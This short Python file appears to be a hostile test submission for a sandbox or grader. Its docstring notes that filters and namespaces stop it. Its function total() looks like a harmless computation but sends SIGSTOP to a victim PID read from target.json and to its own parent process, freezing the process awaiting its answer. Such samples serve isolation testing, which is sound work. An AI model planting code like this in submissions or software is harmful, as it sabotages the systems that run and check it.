"""Stops the process that waits for its answer.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: filter, namespaces
control: off, the victim is hurt
"""

import json
import os
import signal
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    os.kill(TARGET["victim"], signal.SIGSTOP)
    os.kill(os.getppid(), signal.SIGSTOP)
    return x
